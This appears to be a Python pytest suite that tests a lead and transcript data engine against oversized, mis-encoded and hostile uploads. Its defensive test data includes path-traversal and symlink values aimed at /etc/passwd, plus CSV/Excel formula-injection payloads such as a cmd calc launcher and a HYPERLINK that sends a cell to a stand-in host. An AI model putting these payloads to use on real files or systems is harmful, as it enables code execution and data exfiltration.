"""Hostile and awkward data files: limits that hold before memory is spent, other text encodings,
transcripts that are not text, the same bytes uploaded as another kind, and hand-edited dataset settings that
name files elsewhere or hold wrong types."""

from __future__ import annotations

import io
import json
import os
import shutil

import numpy as np
import pandas as pd
import pytest

import engine.data.leads as leads
import engine.data.transcripts as transcripts
from engine.data.demo import demo_leads
from engine.data.leads import LeadDataError, load_leads, read_table
from engine.data.transcripts import TranscriptDataError, load_transcripts
from engine.datasets import BrokenDataset, DatasetStore, check_upload
from engine.signing import load_pickle
from engine.storage import own_file


def lead_rows(n: int) -> bytes:
    return ("Visits,Source,Converted\n" + "".join(f"{i % 7},{'abc'[i % 3]},{i % 2}\n" for i in range(n))).encode()


def calls(n: int) -> list[dict]:
    return [
        {
            "transcript": f"call {i}: the customer asked about pricing",
            "label": i % 2,
            "metadata": {"industry": "retail"},
        }
        for i in range(n)
    ]


@pytest.fixture
def parses(monkeypatch):
    """Counts calls of the parsers that build a table (pandas' CSV/Excel readers, pyarrow's Parquet reader)."""
    import pyarrow.parquet as pq

    counts = {"read_csv": 0, "read_excel": 0, "read_table": 0}
    for module, name in ((pd, "read_csv"), (pd, "read_excel"), (pq, "read_table")):
        original = getattr(module, name)

        def counted(*args, _original=original, _name=name, **kwargs):
            counts[_name] += 1
            return _original(*args, **kwargs)

        monkeypatch.setattr(module, name, counted)
    original_read = pq.ParquetFile.read

    def counted_read(self, *args, **kwargs):  # the column-wise Parquet reader
        counts["read_table"] += 1
        return original_read(self, *args, **kwargs)

    monkeypatch.setattr(pq.ParquetFile, "read", counted_read)
    return counts


# -- limits before the parse ------------------------------------------------------------------------
def test_csv_over_the_real_row_limit_is_refused_before_pandas_parses_it(parses):
    data = b"Visits,Converted\n" + b"1,0\n" * 1_000_001
    with pytest.raises(LeadDataError, match=r"big_export\.csv has more than 1,000,000 rows"):
        read_table(data, filename="big_export.csv")
    with pytest.raises(LeadDataError, match="big_export.csv .*more than the limit of 1,000,000"):
        load_leads(data, filename="big_export.csv")
    assert parses["read_csv"] == 0


def test_csv_limit_counts_records_not_lines(monkeypatch, parses):
    monkeypatch.setattr(leads.reading, "MAX_ROWS", 1000)
    quoted = ("Notes,Converted\n" + "".join(f'"line one\nline two",{i % 2}\n' for i in range(1000))).encode()
    assert len(read_table(quoted, filename="notes.csv")) == 1000  # 2,001 lines, 1,000 records: accepted
    with pytest.raises(LeadDataError, match="leads.csv has more than 1,000 rows"):
        read_table(lead_rows(1001), filename="leads.csv")
    assert parses["read_csv"] == 1  # only the accepted file was parsed
    assert len(read_table(lead_rows(1000), filename="leads.csv")) == 1000


def test_csv_column_limit_is_checked_from_the_header(parses):
    header = ",".join(f"c{i}" for i in range(600)) + ",Converted\n"
    with pytest.raises(LeadDataError, match="wide.csv has 601 columns, more than the limit of 500"):
        read_table((header + ",".join("1" * 601) + "\n").encode(), filename="wide.csv")
    assert parses["read_csv"] == 0


def test_tiny_parquet_with_two_million_rows_is_refused_from_its_metadata(parses):
    import pyarrow as pa
    import pyarrow.parquet as pq

    buf = io.BytesIO()
    pq.write_table(pa.table({"Visits": np.zeros(2_000_000), "Converted": np.zeros(2_000_000, dtype=np.int8)}), buf)
    assert len(buf.getvalue()) < 200_000  # compresses to almost nothing; parsed it would take ~30 MB
    with pytest.raises(LeadDataError, match="sample.parquet has 2,000,000 rows, more than the limit of 1,000,000"):
        read_table(buf.getvalue(), filename="sample.parquet")
    assert parses["read_table"] == 0


def wide_parquet(rows: int, cols: int) -> bytes:
    """A constant, dictionary-encoded table of ``cols`` columns (and an outcome): megabytes on disk for
    hundreds of millions of cells once read."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    same = pa.DictionaryArray.from_arrays(pa.array(np.zeros(rows, dtype="int32")), pa.array(["same"]))
    columns = {f"c{i}": same for i in range(cols - 1)}
    columns["Converted"] = pa.array(np.arange(rows) % 2)
    buf = io.BytesIO()
    pq.write_table(pa.table(columns), buf)
    return buf.getvalue()


def test_wide_parquet_over_the_cell_limit_is_refused_from_its_metadata(parses):
    data = wide_parquet(1_000_000, 500)  # within the row (1M) and column (500) limits: 500M cells
    assert len(data) < 3_000_000
    with pytest.raises(LeadDataError, match=r"wide\.parquet has 1,000,000 rows x 500 columns = 500,000,000 cells"):
        load_leads(data, filename="wide.parquet")
    with pytest.raises(LeadDataError, match="more than the limit of 50,000,000 cells"):
        check_upload(data, "wide.parquet", "leads")
    assert parses["read_table"] == 0


def test_csv_cell_limit_lowers_the_row_limit_for_wide_files(monkeypatch, parses):
    monkeypatch.setattr(leads.reading, "MAX_CELLS", 3000)  # 3 columns: at most 1,000 rows
    with pytest.raises(LeadDataError, match=r"leads\.csv has more than 1,000 rows .*for its 3 columns \(3,000 cells"):
        read_table(lead_rows(1001), filename="leads.csv")
    assert parses["read_csv"] == 0
    assert len(read_table(lead_rows(1000), filename="leads.csv")) == 1000


def test_parquet_is_read_column_by_column_and_drops_pandas_index_columns(parses):
    frame = pd.DataFrame({"Visits": [1.0, 2.0, 3.0], "Source": ["a", "b", "a"], "Converted": [0, 1, 0]})
    buf = io.BytesIO()
    frame.iloc[[2, 0, 1]].to_parquet(buf)  # a non-default index: stored as __index_level_0__
    read = read_table(buf.getvalue(), filename="leads.parquet")
    assert list(read.columns) == ["Visits", "Source", "Converted"]
    assert read["Visits"].tolist() == [3.0, 1.0, 2.0]
    assert parses["read_table"] == 3  # one read a column


def test_read_header_reads_no_rows(parses):
    from engine.data.leads import read_header

    assert read_header(lead_rows(5), "leads.csv") == (["Visits", "Source", "Converted"], True)
    assert read_header(b"Visits,Source,Converted\n\n\n", "empty.csv") == (["Visits", "Source", "Converted"], False)
    names, has_rows = read_header(wide_parquet(200_000, 200), "wide.parquet")
    assert (len(names), names[-1], has_rows) == (200, "Converted", True)
    assert parses == {"read_csv": 0, "read_excel": 0, "read_table": 0}
    with pytest.raises(LeadDataError, match="duplicate column names: 'a'"):
        read_header(b"a,a,Converted\n1,2,0\n", "dup.csv")


def test_unusable_wide_table_names_a_few_columns_not_all(tmp_path):
    with pytest.raises(LeadDataError) as err:
        load_leads(wide_parquet(1000, 400), filename="wide.parquet")
    message = str(err.value)
    assert "c9: constant" in message and "c10:" not in message
    assert "and 389 more columns" in message and len(message) < 1500


def test_infer_kinds_leaves_the_callers_frame_whole():
    from engine.data.leads import infer_kinds

    frame = pd.DataFrame({"Visits": ["1", "2", "x"], "Source": ["a", "b", "a"]})
    assert infer_kinds(frame)["Visits"] in {"numeric", "categorical"}
    assert list(frame.columns) == ["Visits", "Source"] and frame["Visits"].tolist() == ["1", "2", "x"]


def test_excel_over_the_limit_is_refused_from_its_dimensions(monkeypatch, parses):
    monkeypatch.setattr(leads.reading, "MAX_ROWS", 200)
    buf = io.BytesIO()
    pd.read_csv(io.BytesIO(lead_rows(201))).to_excel(buf, index=False)  # counted once, by this setup
    with pytest.raises(LeadDataError, match="book.xlsx has 201 rows, more than the limit of 200"):
        read_table(buf.getvalue(), filename="book.xlsx")
    assert parses["read_excel"] == 0


def test_rejected_upload_stores_nothing_and_names_the_users_file(tmp_path, monkeypatch, parses):
    monkeypatch.setattr(leads.reading, "MAX_ROWS", 1000)
    store = DatasetStore(tmp_path / "datasets")
    with pytest.raises(ValueError, match="my export.csv has more than 1,000 rows"):
        store.add(lead_rows(1001), filename="my export.csv", kind="leads")
    with pytest.raises(ValueError, match="my export.csv"):
        check_upload(lead_rows(1001), "my export.csv", "leads")
    assert list(store.root.iterdir()) == [] and store.list() == []
    assert parses["read_csv"] == 0


def test_stored_file_is_named_by_its_upload_name_in_errors(tmp_path):
    ds = DatasetStore(tmp_path / "datasets").add(lead_rows(50), filename="Q3 leads.csv", kind="leads")
    assert ds.raw_path.name == "data.csv"
    for call in (lambda: load_leads(ds.raw_path, max_rows=10), lambda: read_table(ds.raw_path, max_rows=10)):
        with pytest.raises(LeadDataError, match="Q3 leads.csv has more than 10 rows") as err:
            call()
        assert "data.csv" not in str(err.value)


def test_transcripts_jsonl_over_the_limit_is_refused_before_decoding(monkeypatch):
    monkeypatch.setattr(transcripts, "MAX_ROWS", 100)
    decoded = []
    original = json.loads
    monkeypatch.setattr(json, "loads", lambda *a, **k: decoded.append(1) or original(*a, **k))
    data = "\n".join(json.dumps(r) for r in calls(101)).encode()
    with pytest.raises(TranscriptDataError, match="calls.jsonl has more than 100 records"):
        load_transcripts(data, filename="calls.jsonl")
    assert decoded == []
    assert len(load_transcripts("\n\n".join(json.dumps(r) for r in calls(100)).encode(), filename="c.jsonl").X) == 100


def test_transcripts_json_array_stops_at_the_limit(monkeypatch):
    monkeypatch.setattr(transcripts, "MAX_ROWS", 100)
    # 101 good records, then a broken tail: refused for the count, so the tail was never decoded
    data = (json.dumps(calls(101))[:-1] + ', {"transcript": BROKEN').encode()
    with pytest.raises(TranscriptDataError, match="calls.json has more than 100 records"):
        load_transcripts(data, filename="calls.json")
    wrapped = json.dumps({"calls": calls(101)}).encode()  # an object holding the list
    with pytest.raises(TranscriptDataError, match="more than 100 records"):
        check_upload(wrapped, "wrapped.json", "transcripts")
    assert len(load_transcripts(json.dumps({"calls": calls(100)}).encode(), filename="w.json").X) == 100


def test_transcripts_csv_and_size_limits(monkeypatch, parses, tmp_path):
    monkeypatch.setattr(transcripts, "MAX_ROWS", 100)
    data = pd.DataFrame(calls(101)).drop(columns="metadata").to_csv(index=False).encode()
    with pytest.raises(TranscriptDataError, match="calls.csv has more than 100 records"):
        load_transcripts(data, filename="calls.csv")
    assert parses["read_csv"] == 0
    monkeypatch.setattr(transcripts, "MAX_BYTES", 1000)
    store = DatasetStore(tmp_path / "datasets")
    with pytest.raises(TranscriptDataError, match=r"big.jsonl is [\d,]+ bytes, more than the limit of 1,000 bytes"):
        store.add("\n".join(json.dumps(r) for r in calls(20)).encode(), filename="big.jsonl")
    assert list(store.root.iterdir()) == []


def test_deeply_nested_json_is_a_clear_error():
    with pytest.raises(TranscriptDataError, match="deep.json nests JSON too deeply"):
        load_transcripts(b"[" * 100_000 + b"]" * 100_000, filename="deep.json")


# -- transcripts that are not text --------------------------------------------------------------------
@pytest.mark.parametrize(
    "value, what",
    [
        (["Hello", "Hi, how can I help?"], "a list"),
        (42, "a number"),
        ({"agent": "hello"}, "an object"),
        (True, "true/false"),
    ],
)
def test_transcript_that_is_not_text_is_refused(value, what):
    records = calls(12)
    records[4]["transcript"] = value
    with pytest.raises(TranscriptDataError, match=f"Record 5 has {what} in its 'transcript' field") as err:
        load_transcripts(json.dumps(records).encode(), filename="calls.json")
    assert "Fix:" in str(err.value)


# -- encodings ----------------------------------------------------------------------------------------
ENCODINGS = ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig"]  # utf-16/32: with a byte-order mark


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_lead_csv_in_utf16_and_utf32_is_read(encoding, tmp_path):
    text = "Visits;Source;Converted\n" + "".join(f"{i};Café {'ab'[i % 2]};{i % 2}\n" for i in range(30))
    expected = read_table(text.encode("utf-8"), filename="leads.csv")
    got = read_table(text.encode(encoding), filename="leads.csv")
    pd.testing.assert_frame_equal(got, expected)
    assert len(load_leads(text.encode(encoding), filename="leads.csv").y) == 30
    ds = DatasetStore(tmp_path / "datasets").add(text.encode(encoding), filename="leads.csv", kind="leads")
    pd.testing.assert_frame_equal(ds.load_frame(), expected)


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("fmt", ["json", "jsonl", "csv"])
def test_transcripts_in_utf16_and_utf32_are_read(encoding, fmt):
    records = calls(12)
    records[0]["transcript"] = "Grüße — the customer said «yes»"
    if fmt == "json":
        text = json.dumps(records, ensure_ascii=False)
    elif fmt == "jsonl":
        text = "\n".join(json.dumps(r, ensure_ascii=False) for r in records) + "\n"
    else:
        text = pd.DataFrame(
            [{"transcript": r["transcript"], "label": r["label"], "industry": "retail"} for r in records]
        ).to_csv(index=False)
    table = load_transcripts(text.encode(encoding), filename=f"calls.{fmt}")
    assert len(table.X) == 12 and list(table.y) == [i % 2 for i in range(12)]
    assert table.X["transcript"][0] == "Grüße — the customer said «yes»"
    assert table.X["industry"].tolist() == ["retail"] * 12


def test_binary_data_is_still_refused():
    with pytest.raises(LeadDataError, match="junk.csv is not readable as a table: it contains binary data"):
        read_table(bytes(range(256)) * 40, filename="junk.csv")


# -- the same bytes as another kind -------------------------------------------------------------------
def test_same_bytes_uploaded_as_another_kind_is_refused(tmp_path):
    store = DatasetStore(tmp_path / "datasets")
    data = pd.DataFrame(calls(12)).drop(columns="metadata").to_csv(index=False).encode()
    first = store.add(data, filename="calls.csv", kind="transcripts")
    with pytest.raises(
        ValueError, match="calls.csv: these bytes are already stored as transcripts dataset 'calls'.*Fix:"
    ):
        store.add(data, filename="calls.csv", kind="leads")
    assert store.get(first.sha).kind == "transcripts" and len(store.list()) == 1
    assert store.add(data, filename="calls.csv").kind == "transcripts"  # no kind given: the stored one
    assert store.add(data, filename="calls.csv", kind="transcripts").sha == first.sha


def test_damaged_meta_is_skipped_named_and_repaired_by_a_new_upload(tmp_path):
    store = DatasetStore(tmp_path / "datasets")
    good = store.add(lead_rows(20), filename="good.csv", kind="leads")
    bad = store.add(lead_rows(30), filename="bad.csv", kind="leads")
    (bad.path / "meta.json").write_text("{bad")
    assert [d.sha for d in store.list()] == [good.sha]
    assert "meta.json" in store.problems[bad.sha] and "not valid JSON" in store.problems[bad.sha]
    with pytest.raises(ValueError, match=r"dataset [0-9a-f]{12} is damaged: .*meta.json: is not valid JSON"):
        store.get(bad.sha)
    assert store.find(bad.sha) is None
    repaired = store.add(lead_rows(30), filename="bad.csv", kind="leads")
    assert repaired.sha == bad.sha and len(store.list()) == 2 and store.problems == {}


@pytest.mark.parametrize("sha", ["../../etc", "/tmp", "abc", "ABCDEF*"])
def test_dataset_ids_that_are_not_hashes_are_unknown(tmp_path, sha):
    with pytest.raises(KeyError):
        DatasetStore(tmp_path / "datasets").get(sha)


# -- paths and types in a dataset's meta.json: a dataset reads only its own file -------------------------------
SECRET = b"Secret,Converted\nthe password,1\nanother,0\n"


def plant(store: DatasetStore, tmp_path, case: str):
    """A stored dataset (beside a good one) damaged one way; returns (the dataset, what the problem names)."""
    ds = store.add(lead_rows(30), filename="bad.csv", kind="leads")
    secret = tmp_path / "outside" / "secret.csv"
    secret.parent.mkdir(parents=True, exist_ok=True)
    secret.write_bytes(SECRET)
    meta_file = ds.path / "meta.json"
    meta = json.loads(meta_file.read_text())
    if case == "dotdot":  # ../ up to the file outside, which exists
        meta["file"] = os.path.relpath(secret, ds.path)
        assert meta["file"].startswith("../") and (ds.path / meta["file"]).resolve() == secret
    elif case == "etc_passwd":
        meta["file"] = "../" * len(ds.path.parts) + "etc/passwd"
    elif case == "absolute":
        meta["file"] = str(secret)
    elif case == "subfolder":
        meta["file"] = "sub/data.csv"
        (ds.path / "sub").mkdir()
        shutil.copy(ds.path / "data.csv", ds.path / "sub" / "data.csv")
    elif case == "symlink_file":
        (ds.path / "data.csv").unlink()
        (ds.path / "data.csv").symlink_to(secret)
    elif case == "symlink_folder":  # the folder itself: a link to a whole dataset elsewhere
        outside = secret.parent / "dataset"
        shutil.copytree(ds.path, outside)
        shutil.copy(secret, outside / "data.csv")
        shutil.rmtree(ds.path)
        ds.path.symlink_to(outside, target_is_directory=True)
        return ds, "symbolic link"
    elif case == "wrong_types":
        meta.update({"bytes": "big", "exclude": "Visits", "added": "yesterday", "synthetic": "no"})
    elif case == "file_not_text":
        meta["file"] = ["data.csv"]
    elif case == "unknown_kind":
        meta["kind"] = "spreadsheets"
    else:
        raise ValueError(case)
    meta_file.write_text(json.dumps(meta))
    named = {"wrong_types": "bytes", "file_not_text": "file", "unknown_kind": "kind", "symlink_file": "symbolic link"}
    return ds, named.get(case, "not a bare file name")


META_ATTACKS = [
    "dotdot",
    "etc_passwd",
    "absolute",
    "subfolder",
    "symlink_file",
    "symlink_folder",
    "wrong_types",
    "file_not_text",
    "unknown_kind",
]


@pytest.mark.parametrize("case", META_ATTACKS)
def test_a_hostile_meta_json_is_skipped_named_and_never_read(tmp_path, case):
    store = DatasetStore(tmp_path / "datasets")
    good = store.add(lead_rows(20), filename="good.csv", kind="leads")
    bad, named = plant(store, tmp_path, case)
    assert [d.sha for d in store.list()] == [good.sha]  # the damaged one is left out, the other kept
    why = store.problems[bad.sha]
    assert bad.sha[:12] in why and "damaged" in why and named in why, why
    assert "etc/passwd" not in why or case == "etc_passwd"
    with pytest.raises(BrokenDataset, match=bad.sha[:12]):
        store.get(bad.sha)
    for read in (lambda: bad.read_bytes(), lambda: bad.raw_path, lambda: bad.load_frame(), lambda: bad.label()):
        with pytest.raises(BrokenDataset):
            read()
    assert store.find(bad.sha) is None and store.broken() == {bad.sha: why}
    assert [d.sha for d in store.list(kind="leads", purpose="training")] == [good.sha]


@pytest.mark.parametrize("case", ["dotdot", "symlink_file", "symlink_folder"])
def test_a_hostile_dataset_is_repaired_or_deleted_without_touching_the_file_outside(tmp_path, case):
    store = DatasetStore(tmp_path / "datasets")

    def outside() -> dict:
        return {p: p.read_bytes() for p in sorted(tmp_path.rglob("*")) if "outside" in p.parts and p.is_file()}

    bad, _ = plant(store, tmp_path, case)
    before = outside()
    repaired = store.add(lead_rows(30), filename="bad.csv", kind="leads")  # the same bytes again
    assert repaired.sha == bad.sha and not repaired.path.is_symlink() and store.problems == {}
    assert repaired.read_bytes() == lead_rows(30) and repaired.meta["file"] == "data.csv"
    assert [d.sha for d in store.list()] == [bad.sha] and outside() == before
    plant(store, tmp_path / "again", case)
    assert store.list() == [] and bad.sha in store.problems
    before = outside()
    assert store.delete(bad.sha) == bad.sha  # a damaged dataset can be deleted: a link goes as a link
    assert store.list() == [] and store.problems == {} and not os.path.lexists(bad.path)
    assert outside() == before and len(before) >= 2  # nothing outside the store was written or removed


def test_the_store_refuses_to_write_settings_of_the_wrong_type(tmp_path):
    store = DatasetStore(tmp_path / "datasets")
    ds = store.add(lead_rows(20), filename="leads.csv", kind="leads")
    for wrong in ({"name": 5}, {"exclude": "Visits"}, {"synthetic": "yes"}, {"rows": -1}):
        with pytest.raises(ValueError, match="not stored: holds wrong values"):
            store.update(ds.sha, **wrong)
    assert store.get(ds.sha).meta["name"] == "leads" and store.problems == {}


@pytest.mark.parametrize("name", ["../x.joblib", "/etc/passwd", "sub/x.joblib", "..", ".", "", "a\\b", "x\0y", 5])
def test_own_file_accepts_only_a_bare_name_of_the_folder(tmp_path, name):
    with pytest.raises(ValueError):
        own_file(tmp_path, name)
    with pytest.raises(ValueError, match="not a file the engine wrote"):
        load_pickle(tmp_path, name)


def test_own_file_refuses_a_link_and_accepts_a_plain_file(tmp_path):
    (tmp_path / "model.joblib").write_bytes(b"x")
    (tmp_path / "link.joblib").symlink_to(tmp_path / "model.joblib")  # a link, even to a file inside
    assert own_file(tmp_path, "model.joblib") == tmp_path / "model.joblib"
    with pytest.raises(ValueError, match="symbolic link"):
        own_file(tmp_path, "link.joblib")


# -- formulas in exports (issue 22): neutralised by value, whatever the column's dtype --------------------
FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
FORMULAS += ["\t=1+1", "\r=1+1", "  =1+1", " \t@SUM(A1)"]
SAFE = ["Google", "a = b", "x-1", "", "1,5"]


def hostile_frame(dtype) -> pd.DataFrame:
    """One text column of ``dtype`` holding every formula and every safe text, a number column, a missing cell
    and headers that are formulas themselves."""
    texts = [*FORMULAS, *SAFE, None]
    frame = pd.DataFrame(
        {
            "Notes": pd.Series(texts, dtype=dtype),
            "=cmd|' /C calc'!A0": pd.Series(["=2+2"] * len(texts), dtype=dtype),
            " @header": pd.Series(SAFE[:1] * len(texts), dtype=dtype),
            "TotalVisits": np.arange(len(texts), dtype=float) - 3,  # negative numbers stay numbers
        }
    )
    return frame


TEXT_DTYPES = [object, "category", "string", "string[pyarrow]", "str", pd.ArrowDtype(__import__("pyarrow").string())]


def check_neutralised(rows: list[list]) -> None:
    """``rows`` (header first) as a spreadsheet reads them: no text cell it would run as a formula."""
    header, body = rows[0], rows[1:]
    assert header == ["Notes", "'=cmd|' /C calc'!A0", "' @header", "TotalVisits"]
    assert len(body) == len(FORMULAS) + len(SAFE) + 1 and all(r[1] == "'=2+2" for r in body)
    notes = [r[0] for r in body]
    for original in FORMULAS:  # an XML reader gives a worksheet's carriage return as a line feed
        assert "'" + original in notes or "'" + original.replace("\r", "\n") in notes, original
    for safe in SAFE[:-1]:  # the empty text reads back as a blank cell
        assert safe in notes
    for cell in (c for r in rows for c in r):
        assert not (isinstance(cell, str) and cell.lstrip().startswith(("=", "+", "-", "@"))), cell
    assert [r[3] for r in body][:4] == [-3, -2, -1, 0]


@pytest.mark.parametrize("dtype", TEXT_DTYPES, ids=str)
def test_csv_export_neutralises_formula_cells_and_headers_of_every_text_dtype(dtype):
    import csv

    from engine.storage import export_csv

    rows = list(csv.reader(io.StringIO(export_csv(hostile_frame(dtype)).decode("utf-8"), newline="")))
    typed = [rows[0]] + [[*r[:3], float(r[3])] for r in rows[1:]]
    check_neutralised(typed)


@pytest.mark.parametrize("dtype", TEXT_DTYPES, ids=str)
def test_excel_export_neutralises_formula_cells_and_headers_of_every_text_dtype(dtype):
    import openpyxl

    from engine.storage import export_excel

    book = openpyxl.load_workbook(io.BytesIO(export_excel(hostile_frame(dtype))))  # formulas are kept as formulas here
    sheet = book.worksheets[0]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    rows = [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]
    check_neutralised(rows)


def test_a_parquet_upload_with_categorical_and_arrow_text_is_neutralised_on_export():
    """The attack of issue 22: a Parquet file whose text columns are dictionary-encoded (pandas categoricals)
    read back by the product's own reader, then exported."""
    from engine.storage import export_csv, export_excel

    frame = pd.DataFrame(
        {
            "Lead Source": pd.Categorical(FORMULAS),
            "City": pd.Series(FORMULAS, dtype="string[pyarrow]"),
            '=HYPERLINK("http://x")': range(len(FORMULAS)),
        }
    )
    buffer = io.BytesIO()
    frame.to_parquet(buffer)
    back = read_table(buffer.getvalue(), filename="evil.parquet")
    assert isinstance(back["Lead Source"].dtype, pd.CategoricalDtype)  # the reader keeps the dictionary
    import csv

    rows = list(csv.reader(io.StringIO(export_csv(back).decode("utf-8"), newline="")))
    assert rows[0] == ["Lead Source", "City", '\'=HYPERLINK("http://x")'] and len(rows) == len(FORMULAS) + 1
    assert [r[:2] for r in rows[1:]] == [["'" + f, "'" + f] for f in FORMULAS]
    import openpyxl

    sheet = openpyxl.load_workbook(io.BytesIO(export_excel(back))).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert sum(isinstance(c.value, str) and c.value.startswith("'") for c in cells) == 2 * len(FORMULAS) + 1


def test_excel_export_writes_control_characters_a_worksheet_cannot_hold():
    import openpyxl

    from engine.storage import export_excel

    frame = pd.DataFrame({"Notes\x07": ["bell\x07here", "=1+1\x00"]})
    sheet = openpyxl.load_workbook(io.BytesIO(export_excel(frame))).worksheets[0]
    assert [c.value for c in sheet["A"]] == ["Notes\ufffd", "bell\ufffdhere", "'=1+1\ufffd"]


# -- damaged scored lists (issue 22): checked on read, skipped and named --------------------------------
SCORED_DAMAGE = {
    "created a word": ({"created": "yesterday"}, "created"),
    "rows a word": ({"rows": "many"}, "rows"),
    "rows a boolean": ({"rows": True}, "rows"),
    "created not finite": ({"created": 1e999}, "created"),
    "created beyond year 9999": ({"created": 1e300}, "created"),
    "source a list": ({"source": ["a"]}, "source"),
    "no run id": ({"run_id": None}, "run_id"),
    "another list's hash": ({"sha256": "0" * 64}, "another list"),
}


def stored_lists(small_stack_run, root) -> tuple:
    """A scored-list store with three lists of the session's small stack (20, 21 and 22 leads)."""
    from engine.scored_lists import ScoredStore
    from engine.scoring import score_frame

    run = small_stack_run[0]
    store = ScoredStore(root)
    metas = []
    for n in (20, 21, 22):
        new = demo_leads(n=n, seed=n).drop(columns=["Converted"])
        metas.append(store.add(score_frame(run, new, explain=0), f"week{n}.csv"))
    return store, metas


@pytest.mark.parametrize("case", [*SCORED_DAMAGE, "scored.csv missing", "meta.json not JSON", "meta.json a list"])
def test_a_damaged_scored_list_is_skipped_and_named_the_others_listed(small_stack_run, tmp_path, case):
    store, metas = stored_lists(small_stack_run, tmp_path / "scored")
    folder = store.root / metas[1]["sha256"]
    if case in SCORED_DAMAGE:
        change, named = SCORED_DAMAGE[case]
        meta = json.loads((folder / "meta.json").read_text())
        (folder / "meta.json").write_text(json.dumps({**meta, **change}))  # 1e999 is written as Infinity
    elif case == "scored.csv missing":
        (folder / "scored.csv").unlink()
        named = "scored.csv"
    else:
        (folder / "meta.json").write_text("{bad" if case == "meta.json not JSON" else "[]")
        named = "meta.json"
    listed = store.list()
    assert [m["rows"] for m in listed] == [22, 20]  # newest first, the damaged one left out
    assert list(store.problems) == [folder.name] and named in store.problems[folder.name]
    assert all(isinstance(m["created"], float) and isinstance(m["rows"], int) for m in listed)
    store.list()  # problems are those of the latest listing, not piled up
    assert len(store.problems) == 1


# -- cells pandas cannot hash (issue 22): read as their text ------------------------------------------------
def test_shift_report_reads_list_and_array_cells_as_their_text():
    from engine.drift import shift_report

    train = demo_leads(n=200, seed=1).drop(columns=["Converted"])
    new = demo_leads(n=60, seed=2).drop(columns=["Converted"])
    new["Lead Source"] = [["Google"], np.array(["a", "b"]), {"k": 1}] * 20
    new["TotalVisits"] = [[3]] * 60
    train["City"] = train["City"].astype(object)
    train.loc[:9, "City"] = pd.Series([["Mumbai"]] * 10)
    kinds = {"Lead Source": "categorical", "TotalVisits": "numeric", "City": "categorical", "Country": "categorical"}
    report = shift_report(train[list(kinds)], new[list(kinds)], kinds)
    levels = {c["column"]: c["level"] for c in report["columns"]}
    assert levels["Lead Source"] == "large" and levels["TotalVisits"] == "large"  # all text / all missing now
    assert set(levels) == set(kinds) and report["rows_new"] == 60 and report["adversarial_auc"] > 0.9
    table = load_leads(pd.concat([train, demo_leads(n=200, seed=1)[["Converted"]]], axis=1), leak_policy="none")
    assert table.X["City"].head(10).tolist() == ["['Mumbai']"] * 10


@pytest.mark.parametrize(
    "meta, message",
    [
        ({"a": {"b": {"c": {"d": 1}}}}, r"Record 4's metadata field 'a\.b\.c' nests objects deeper than 3 levels"),
        ({"tags": [{"x": 1}]}, r"Record 4's metadata field 'tags' is a list holding objects or lists"),
        ({"tags": [[1, 2]]}, r"Record 4's metadata field 'tags' is a list holding objects or lists"),
    ],
)
def test_metadata_nested_past_the_rule_is_refused_naming_the_field(tmp_path, meta, message):
    """One rule for a call's metadata (engine.data.transcripts.flatten_metadata), in files as in the API's bodies:
    objects up to three levels become dotted fields, lists of plain values one text; deeper is refused by name."""
    records = [
        {"transcript": f"Agent: hello {i}\nCustomer: yes", "label": i % 2, "metadata": {"x": i}} for i in range(12)
    ]
    records[3]["metadata"] = meta
    path = tmp_path / "calls.json"
    path.write_text(json.dumps(records))
    with pytest.raises(transcripts.TranscriptDataError, match=message):
        transcripts.load_transcripts(path)
    records[3]["metadata"] = {"customer": {"address": {"country": "DE"}}, "tags": ["a", "b"]}
    path.write_text(json.dumps(records))
    table = transcripts.load_transcripts(path).X
    assert table.loc[3, "customer.address.country"] == "DE" and table.loc[3, "tags"] == "a, b"
